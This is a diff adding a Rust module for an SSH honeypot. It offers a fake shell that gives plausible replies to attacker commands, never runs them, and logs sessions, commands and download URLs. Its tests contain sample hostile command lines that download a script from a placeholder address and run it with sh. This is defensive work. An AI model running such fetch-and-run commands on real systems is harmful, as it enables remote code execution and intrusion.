@@ -0,0 +1,437 @@
+use std::{net::SocketAddr, sync::Arc, time::SystemTime};
+
+use crate::{Exit, Middleware, Next, Session, SessionId};
+
+type EventHook = Arc<dyn Fn(&HoneypotEvent) + Send + Sync>;
+
+/// Something an attacker did in a [`Honeypot`].
+#[derive(Debug, Clone)]
+#[non_exhaustive]
+pub struct HoneypotEvent {
+    pub session_id: SessionId,
+    pub user: String,
+    pub remote_addr: SocketAddr,
+    pub at: SystemTime,
+    pub kind: HoneypotEventKind,
+}
+
+#[derive(Debug, Clone, PartialEq, Eq)]
+#[non_exhaustive]
+pub enum HoneypotEventKind {
+    /// A session started.
+    Connected,
+    /// A command line, as typed or sent with `ssh host cmd`.
+    Command { line: String },
+    /// A `wget` or `curl` of `url`, usually the payload.
+    Download { url: String },
+    /// The session ended.
+    Disconnected,
+}
+
+/// A fake shell for SSH honeypots: a plausible prompt and plausible answers
+/// to what attackers try first (`uname -a`, `id`, `ls`, `cat /etc/passwd`,
+/// `wget`), while nothing is ever run.
+///
+/// Every session, command line, and download attempt becomes a
+/// [`HoneypotEvent`], logged with `tracing` under the `shenron::honeypot`
+/// target and passed to [`on_event`](Self::on_event). It's the innermost
+/// layer and ignores `next`. Pair it with auth that accepts anything and,
+/// for keystroke timing, a [`Recorder`](super::Recorder):
+///
+/// ```no_run
+/// # use shenron::{Auth, Server, middleware::{CastDirectory, Honeypot, Recorder}};
+/// let _server = Server::new()
+///     .password_auth(|_user, _password| async { Auth::accept() })
+///     .with(Recorder::new(CastDirectory::new("casts")).record_input(true))
+///     .with(Honeypot::new().hostname("web-prod-02").on_event(|event| {
+///         println!("{event:?}");
+///     }));
+/// ```
+pub struct Honeypot {
+    hostname: String,
+    on_event: Option<EventHook>,
+}
+
+impl Default for Honeypot {
+    fn default() -> Self {
+        Self::new()
+    }
+}
+
+impl Honeypot {
+    #[must_use]
+    pub fn new() -> Self {
+        Self {
+            hostname: "srv01".into(),
+            on_event: None,
+        }
+    }
+
+    /// The machine name the fake shell claims, in its prompt and `uname`.
+    #[must_use]
+    pub fn hostname(mut self, hostname: impl Into<String>) -> Self {
+        self.hostname = hostname.into();
+
+        self
+    }
+
+    /// Call `hook` with every event, e.g. to ship them to a SIEM. It runs
+    /// inline, so hand the event off rather than doing I/O in it.
+    #[must_use]
+    pub fn on_event(mut self, hook: impl Fn(&HoneypotEvent) + Send + Sync + 'static) -> Self {
+        self.on_event = Some(Arc::new(hook));
+
+        self
+    }
+
+    fn emit(&self, session: &Session, kind: HoneypotEventKind) {
+        let event = HoneypotEvent {
+            session_id: session.id(),
+            user: session.user().to_string(),
+            remote_addr: session.remote_addr(),
+            at: SystemTime::now(),
+            kind,
+        };
+
+        tracing::info!(
+            target: "shenron::honeypot",
+            session = %event.session_id,
+            user = %event.user,
+            remote = %event.remote_addr,
+            event = ?event.kind,
+            "honeypot"
+        );
+
+        if let Some(hook) = &self.on_event {
+            hook(&event);
+        }
+    }
+
+    /// Play a login shell until the attacker logs out or disconnects.
+    async fn interact(&self, session: &mut Session, shell: &mut FakeShell) -> crate::Result {
+        let motd = "Welcome to Ubuntu 22.04.3 LTS (GNU/Linux 5.15.0-91-generic x86_64)\r\n\r\n";
+        session.write_str(motd).await?;
+
+        while let Some(line) = session.read_line(&shell.prompt()).await? {
+            if !self.run_line(session, shell, &line).await? {
+                break;
+            }
+        }
+
+        Ok(())
+    }
+
+    /// Run one command line; `false` once it asks to log out.
+    async fn run_line(
+        &self,
+        session: &Session,
+        shell: &mut FakeShell,
+        line: &str,
+    ) -> crate::Result<bool> {
+        if line.trim().is_empty() {
+            return Ok(true);
+        }
+
+        self.emit(
+            session,
+            HoneypotEventKind::Command {
+                line: line.to_string(),
+            },
+        );
+
+        for command in split_commands(line) {
+            let words = shell_words::split(command)
+                .unwrap_or_else(|_| command.split_whitespace().map(String::from).collect());
+
+            if let Some(url) = download_url(&words) {
+                self.emit(session, HoneypotEventKind::Download { url });
+            }
+
+            let Some(output) = shell.run(&words) else {
+                return Ok(false);
+            };
+
+            if !output.is_empty() {
+                let output = if session.pty().is_some() {
+                    output.replace('\n', "\r\n")
+                } else {
+                    output
+                };
+                session.write_str(&output).await?;
+            }
+        }
+
+        Ok(true)
+    }
+}
+
+impl Middleware for Honeypot {
+    type Output = crate::Result<Exit>;
+
+    async fn handle(&self, session: &'_ mut Session, _next: Next<'_>) -> crate::Result<Exit> {
+        self.emit(session, HoneypotEventKind::Connected);
+
+        let mut shell = FakeShell::new(&self.hostname, session.user());
+        let result = match session.raw_command().map(String::from) {
+            Some(command) => self.run_line(session, &mut shell, &command).await.map(drop),
+            None => self.interact(session, &mut shell).await,
+        };
+
+        self.emit(session, HoneypotEventKind::Disconnected);
+        result?;
+
+        Ok(Exit::Code(0))
+    }
+}
+
+/// The state a fake shell keeps between commands.
+struct FakeShell {
+    hostname: String,
+    user: String,
+    cwd: String,
+}
+
+impl FakeShell {
+    fn new(hostname: &str, user: &str) -> Self {
+        Self {
+            hostname: hostname.to_string(),
+            user: user.to_string(),
+            cwd: home(user),
+        }
+    }
+
+    fn prompt(&self) -> String {
+        let home = home(&self.user);
+        let cwd = self
+            .cwd
+            .strip_prefix(&home)
+            .map_or_else(|| self.cwd.clone(), |rest| format!("~{rest}"));
+        let sigil = if self.user == "root" { '#' } else { '$' };
+
+        format!("{}@{}:{cwd}{sigil} ", self.user, self.hostname)
+    }
+
+    /// The output of the command `words`, or `None` to log out.
+    fn run(&mut self, words: &[String]) -> Option<String> {
+        let Some((program, args)) = words.split_first() else {
+            return Some(String::new());
+        };
+        let args: Vec<&str> = args.iter().map(String::as_str).collect();
+
+        Some(match (program.as_str(), args.as_slice()) {
+            ("exit" | "logout", _) => return None,
+            ("whoami", _) => format!("{}\n", self.user),
+            ("hostname", _) => format!("{}\n", self.hostname),
+            ("pwd", _) => format!("{}\n", self.cwd),
+            ("id", _) => self.id(),
+            ("uname", args) => self.uname(args),
+            ("echo", args) => format!("{}\n", args.join(" ")),
+            ("cd", args) => {
+                self.cwd = match args.first() {
+                    None | Some(&"~") => home(&self.user),
+                    Some(dir) => resolve(&self.cwd, dir),
+                };
+                String::new()
+            }
+            ("ls", args) => {
+                let dir = args
+                    .iter()
+                    .find(|arg| !arg.starts_with('-'))
+                    .map_or_else(|| self.cwd.clone(), |dir| resolve(&self.cwd, dir));
+                ls(&dir)
+            }
+            ("cat", [path, ..]) if resolve(&self.cwd, path) == "/etc/passwd" => PASSWD.into(),
+            ("cat", [path, ..]) => format!("cat: {path}: No such file or directory\n"),
+            ("wget", args) => wget(args),
+            ("curl", args) => curl(args),
+            (program, _) => format!("-bash: {program}: command not found\n"),
+        })
+    }
+
+    fn id(&self) -> String {
+        if self.user == "root" {
+            "uid=0(root) gid=0(root) groups=0(root)\n".into()
+        } else {
+            let user = &self.user;
+            format!("uid=1000({user}) gid=1000({user}) groups=1000({user}),27(sudo)\n")
+        }
+    }
+
+    fn uname(&self, args: &[&str]) -> String {
+        const KERNEL: &str = "5.15.0-91-generic";
+        const VERSION: &str = "#101-Ubuntu SMP Tue Nov 14 13:30:08 UTC 2023";
+
+        match args.first().copied() {
+            Some("-a") => format!(
+                "Linux {} {KERNEL} {VERSION} x86_64 x86_64 x86_64 GNU/Linux\n",
+                self.hostname
+            ),
+            Some("-r") => format!("{KERNEL}\n"),
+            Some("-n") => format!("{}\n", self.hostname),
+            Some("-m" | "-p" | "-i") => "x86_64\n".into(),
+            Some("-v") => format!("{VERSION}\n"),
+            _ => "Linux\n".into(),
+        }
+    }
+}
+
+const PASSWD: &str = "root:x:0:0:root:/root:/bin/bash
+daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
+bin:x:2:2:bin:/bin:/usr/sbin/nologin
+sys:x:3:3:sys:/dev:/usr/sbin/nologin
+www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
+sshd:x:110:65534::/run/sshd:/usr/sbin/nologin
+ubuntu:x:1000:1000:Ubuntu:/home/ubuntu:/bin/bash
+";
+
+fn home(user: &str) -> String {
+    if user == "root" {
+        "/root".into()
+    } else {
+        format!("/home/{user}")
+    }
+}
+
+/// `dir` relative to `cwd`, with `.` and `..` applied.
+fn resolve(cwd: &str, dir: &str) -> String {
+    let mut parts: Vec<&str> = if dir.starts_with('/') {
+        Vec::new()
+    } else {
+        cwd.split('/').filter(|part| !part.is_empty()).collect()
+    };
+
+    for part in dir.split('/') {
+        match part {
+            "" | "." => {}
+            ".." => {
+                parts.pop();
+            }
+            part => parts.push(part),
+        }
+    }
+
+    format!("/{}", parts.join("/"))
+}
+
+fn ls(dir: &str) -> String {
+    match dir {
+        "/" => "bin   dev  home  lib64  mnt  proc  run   srv  tmp  var\nboot  etc  lib   media  opt  root  sbin  sys  usr\n".into(),
+        "/etc" => "fstab  group  hostname  hosts  passwd  resolv.conf  shadow  ssh  sudoers\n".into(),
+        "/tmp" | "/root" => String::new(),
+        dir if dir.starts_with("/home/") => "backup.tar.gz  notes.txt\n".into(),
+        "/home" => "ubuntu\n".into(),
+        dir => format!("ls: cannot access '{dir}': No such file or directory\n"),
+    }
+}
+
+fn wget(args: &[&str]) -> String {
+    let Some(url) = args.iter().find(|arg| !arg.starts_with('-')) else {
+        return "wget: missing URL\n".into();
+    };
+    let host = url_host(url);
+
+    format!(
+        "--{}--  {url}\nResolving {host} ({host})... failed: Temporary failure in name resolution.\nwget: unable to resolve host address '{host}'\n",
+        wget_timestamp()
+    )
+}
+
+fn curl(args: &[&str]) -> String {
+    let Some(url) = args.iter().find(|arg| !arg.starts_with('-')) else {
+        return "curl: try 'curl --help' for more information\n".into();
+    };
+
+    format!("curl: (6) Could not resolve host: {}\n", url_host(url))
+}
+
+/// The URL a `wget` or `curl` command line fetches.
+fn download_url(words: &[String]) -> Option<String> {
+    let (program, args) = words.split_first()?;
+
+    matches!(program.as_str(), "wget" | "curl")
+        .then(|| args.iter().find(|arg| !arg.starts_with('-')).cloned())
+        .flatten()
+}
+
+fn url_host(url: &str) -> &str {
+    let rest = url.split_once("://").map_or(url, |(_, rest)| rest);
+
+    rest.split(['/', ':', '?']).next().unwrap_or(rest)
+}
+
+/// `wget`'s `YYYY-MM-DD HH:MM:SS` banner time, in UTC.
+fn wget_timestamp() -> String {
+    let secs = SystemTime::now()
+        .duration_since(SystemTime::UNIX_EPOCH)
+        .map_or(0, |since| since.as_secs());
+    let (days, time) = (secs / 86_400, secs % 86_400);
+
+    // Civil date from days since the epoch (Howard Hinnant's algorithm).
+    let z = days + 719_468;
+    let era = z / 146_097;
+    let doe = z - era * 146_097;
+    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
+    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
+    let mp = (5 * doy + 2) / 153;
+    let day = doy - (153 * mp + 2) / 5 + 1;
+    let month = if mp < 10 { mp + 3 } else { mp - 9 };
+    let year = yoe + era * 400 + u64::from(month <= 2);
+
+    format!(
+        "{year:04}-{month:02}-{day:02} {:02}:{:02}:{:02}",
+        time / 3600,
+        time % 3600 / 60,
+        time % 60
+    )
+}
+
+/// The commands on a line, split at `;`, `&&`, `||` and `|`.
+fn split_commands(line: &str) -> impl Iterator<Item = &str> {
+    line.split([';', '&', '|'])
+        .map(str::trim)
+        .filter(|command| !command.is_empty())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn run(shell: &mut FakeShell, line: &str) -> Option<String> {
+        shell.run(&shell_words::split(line).expect("argv"))
+    }
+
+    #[test]
+    fn answers_like_a_shell() {
+        let mut shell = FakeShell::new("web01", "ubuntu");
+
+        assert_eq!(shell.prompt(), "ubuntu@web01:~$ ");
+        assert_eq!(run(&mut shell, "whoami").as_deref(), Some("ubuntu\n"));
+        assert_eq!(run(&mut shell, "cd /etc/../tmp").as_deref(), Some(""));
+        assert_eq!(shell.prompt(), "ubuntu@web01:/tmp$ ");
+        assert_eq!(
+            run(&mut shell, "nmap 10.0.0.1").as_deref(),
+            Some("-bash: nmap: command not found\n")
+        );
+        assert!(
+            run(&mut shell, "uname -a")
+                .expect("output")
+                .starts_with("Linux web01 5.15.0")
+        );
+        assert_eq!(run(&mut shell, "exit"), None);
+    }
+
+    #[test]
+    fn finds_the_payload_url() {
+        let argv = shell_words::split("wget -q http://203.0.113.9/x.sh -O /tmp/x").expect("argv");
+
+        assert_eq!(
+            download_url(&argv).as_deref(),
+            Some("http://203.0.113.9/x.sh")
+        );
+        assert_eq!(url_host("http://203.0.113.9:8080/x.sh"), "203.0.113.9");
+        assert_eq!(
+            split_commands("cd /tmp; wget x && sh x | tee").collect::<Vec<_>>(),
+            ["cd /tmp", "wget x", "sh x", "tee"]
+        );
+    }
+}